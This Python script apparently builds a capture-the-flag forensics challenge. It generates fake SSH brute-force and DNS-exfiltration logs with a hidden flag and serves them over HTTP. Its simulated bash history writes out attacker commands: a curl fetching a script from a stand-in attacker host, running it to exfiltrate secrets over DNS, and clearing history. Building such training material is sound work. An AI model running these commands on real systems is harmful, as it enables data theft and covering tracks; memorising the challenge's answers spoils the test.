#!/usr/bin/env python3
"""Builds an incident log bundle at start-up: an SSH brute force that
succeeds, then a file exfiltrated through DNS queries (XOR + hex, chunks sent
out of order). The exfiltrated file holds the planted flag."""
import io
import os
import random
import secrets
import tempfile
import tarfile
import time
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer

FLAG = open("/srv/flag.txt").read().strip()
WWW = tempfile.mkdtemp(prefix="www-")  # served files; /srv may be read-only
R = random.Random(secrets.randbits(64))
VICTIM = "10.0.4.12"
ATTACKER = "198.51.100.23"
DOMAIN = "telemetry-cdn.net"
T0 = 1773454800  # 2026-03-14 02:20 UTC


def ts(t):
    return time.strftime("%b %d %H:%M:%S", time.gmtime(t))


def auth_log():
    ev = []
    users = ["root", "admin", "oracle", "test", "ubuntu", "git", "deploy", "postgres", "pi"]
    for ip in ("203.0.113.9", "192.0.2.77"):
        t = T0 + R.randint(0, 600)
        for _ in range(R.randint(25, 40)):
            u = R.choice(users)
            inv = "" if u in ("root", "deploy", "git") else "invalid user "
            ev.append((t, "sshd[%d]: Failed password for %s%s from %s port %d ssh2"
                       % (R.randint(2000, 9000), inv, u, ip, R.randint(30000, 60000))))
            t += R.uniform(0.5, 4)
    t = T0 + 700
    for _ in range(57):
        ev.append((t, "sshd[%d]: Failed password for deploy from %s port %d ssh2"
                   % (R.randint(2000, 9000), ATTACKER, R.randint(30000, 60000))))
        t += R.uniform(1, 3)
    login = t + 2
    pid = R.randint(9000, 9999)
    ev.append((login, "sshd[%d]: Accepted password for deploy from %s port %d ssh2" % (pid, ATTACKER, 41234)))
    ev.append((login, "sshd[%d]: pam_unix(sshd:session): session opened for user deploy(uid=1001) by (uid=0)" % pid))
    for k in range(6):
        t = T0 + k * 900 + R.randint(0, 300)
        ev.append((t, "sshd[%d]: Accepted publickey for backup from 10.0.1.5 port %d ssh2: ED25519 SHA256:q9X"
                   % (R.randint(2000, 9000), R.randint(30000, 60000))))
    ev.sort()
    return "".join("%s web-02 %s\n" % (ts(t), m) for t, m in ev), login


def dns_log(login, payloads):
    ev = []
    benign = ["www.debian.org", "deb.debian.org", "api.github.com", "time.cloudflare.com", "login.corp.test",
              "wiki.corp.test", "pypi.org", "files.pythonhosted.org", "ocsp.digicert.com", "mail.corp.test"]
    hosts = ["10.0.4.%d" % i for i in range(2, 40)]
    for _ in range(1800):
        ev.append((T0 + R.uniform(0, 7200), R.choice(["A", "AAAA"]), R.choice(benign), R.choice(hosts)))
    t = login + 95
    for sid, data in payloads:
        chunks = [data[i:i + 14] for i in range(0, len(data), 14)]
        order = list(range(len(chunks)))
        R.shuffle(order)
        order += R.sample(order, 2)  # a couple of retries
        for i in order:
            ev.append((t, "A", "%04d-%s.%s.%s" % (i, chunks[i].hex(), sid, DOMAIN), VICTIM))
            t += R.uniform(0.05, 1.5)
        t += 40
    ev.sort()
    return "".join("%s dnsmasq[812]: query[%s] %s from %s\n" % (ts(t), ty, q, h) for t, ty, q, h in ev)


def bundle():
    key = R.randrange(1, 256)
    secrets_env = ("# /etc/app/secrets.env\nDB_USER=app\nDB_PASSWORD=%s\nBACKUP_TOKEN=%s\nSMTP_PASS=%s\n"
                   % (secrets.token_urlsafe(12), FLAG, secrets.token_urlsafe(9))).encode()
    hosts = b"127.0.0.1 localhost\n10.0.4.12 web-02\n10.0.1.5 backup01\n10.0.2.20 db01\n"
    auth, login = auth_log()
    x = lambda b: bytes(c ^ key for c in b)  # noqa: E731
    sids = ["s%02d" % n for n in R.sample(range(10, 99), 2)]
    dns = dns_log(login, [(sids[0], x(hosts)), (sids[1], x(secrets_env))])
    hist = ("id\nuname -a\nls -la /etc/app\ncat /etc/app/config.yml\n"
            "curl -s -o /dev/shm/.d http://%s:8000/d.py\n"
            "python3 /dev/shm/.d --sid %s --xor 0x%02x --zone %s /etc/hosts\n"
            "python3 /dev/shm/.d --sid %s --xor 0x%02x --zone %s /etc/app/secrets.env\n"
            "rm -f /dev/shm/.d\nhistory -c\n" % (ATTACKER, sids[0], key, DOMAIN, sids[1], key, DOMAIN)).encode()
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in (("web-02/var/log/auth.log", auth.encode()),
                           ("web-02/var/log/dnsmasq-queries.log", dns.encode()),
                           ("web-02/home/deploy/.bash_history", hist)):
            ti = tarfile.TarInfo(name)
            ti.size, ti.mtime = len(data), T0 + 7200
            tf.addfile(ti, io.BytesIO(data))
    return buf.getvalue()


if __name__ == "__main__":
    open(WWW + "/incident-IR-3141.tar.gz", "wb").write(bundle())

    class Handler(SimpleHTTPRequestHandler):
        def __init__(self, *a, **kw):
            super().__init__(*a, directory=WWW, **kw)
    ThreadingHTTPServer(("0.0.0.0", 8080), Handler).serve_forever()
